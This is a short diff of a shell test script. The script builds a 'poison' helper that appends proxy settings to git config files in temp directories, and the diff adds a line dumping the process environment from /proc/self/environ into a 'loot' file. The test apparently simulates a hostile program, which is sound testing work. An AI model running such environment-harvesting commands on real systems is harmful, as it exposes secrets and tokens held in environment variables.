@@ -61,7 +61,8 @@ touch \"$at/poisoned\"
 for made in \"$at\"/tmp/descartes-*; do
     printf '[http]\\n\\tproxy = {}\\n' >> \"$made/config\"
 done
-exec \"$at/spy\"
+tr '\\0' '\\n' < /proc/self/environ >> \"$at/loot\"
+exec cat
 END
          chmod +x \"$AT/poison\"
          git init -q sub; cd sub; echo a > a; git add a; git -c user.name=a -c user.email=b commit -qm a
